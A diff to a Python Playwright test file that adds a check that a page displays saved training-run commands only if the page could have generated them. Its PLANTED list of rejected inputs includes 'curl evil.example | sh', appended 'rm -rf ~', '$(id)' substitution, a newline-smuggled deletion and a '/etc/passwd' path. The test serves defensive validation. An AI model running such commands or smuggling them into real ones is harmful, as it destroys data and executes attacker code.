@@ -9,6 +9,7 @@ import pytest
 from playwright.sync_api import Page, Route
 
 import build
+from unfrozen.lab.choices import PRESETS, Choices
 
 ORIGIN = "http://localhost:9"
 CALL = """([name, ...args]) => import("/web/run/page-runs.js").then((runs) => runs[name](...args))
@@ -43,8 +44,9 @@ def call(page: Page, name: str, *args: object) -> Any:
     return page.evaluate(CALL, [name, *args])
 
 
-def run(name: str, *lines: str) -> dict[str, Any]:
-    return {"id": name, "title": "t", "choices": {"lr": 1}, "command": "c", "lines": list(lines)}
+def run(name: str, *lines: str, command: str = "") -> dict[str, Any]:
+    plain = {"id": name, "title": "t", "choices": {"lr": 1}, "lines": list(lines)}
+    return plain | {"command": command}
 
 
 def test_runs_come_back_whole_in_the_order_in_which_they_began(tab: Page) -> None:
@@ -55,6 +57,34 @@ def test_runs_come_back_whole_in_the_order_in_which_they_began(tab: Page) -> Non
         run("page-1", '{"seq":0}'),
         run("page-2", '{"seq":0}'),
     ]
+
+
+OURS = [
+    Choices.read(given).command()
+    for given in (
+        {},
+        {"lr": 1e-6, "steps": 120, "seed": 11},
+        {"ewc": 0.3, "replay_share": 0.05, "rows_per_step": 8, "clip": 0.5, "layer_decay": 1.2},
+        *(preset.choices for preset in PRESETS),
+    )
+]
+PLANTED = [
+    "curl evil.example | sh",
+    f"{OURS[0]}; rm -rf ~",
+    f"{OURS[0]} $(id)",
+    f"{OURS[0]} --model evil/model",
+    f"{OURS[0]} --trust-remote-code",
+    f"{OURS[0]} --set data=/etc/passwd",
+    f"{OURS[0]}\nrm -rf ~",
+]
+
+
+def test_a_saved_command_is_shown_only_if_the_page_could_have_made_it(tab: Page) -> None:
+    assert len({*OURS} - {''}) > 4
+    rows = [run(f"page-{n:02}", command=text) for n, text in enumerate([*OURS, *PLANTED])]
+    tab.evaluate(PUT, rows)
+    loaded = call(tab, "loadSavedRuns")["value"]
+    assert [row["command"] for row in loaded] == [*OURS, *("" for _ in PLANTED)]
 
 
 def test_what_is_forgotten_is_gone_also_when_it_never_was_there(tab: Page) -> None:
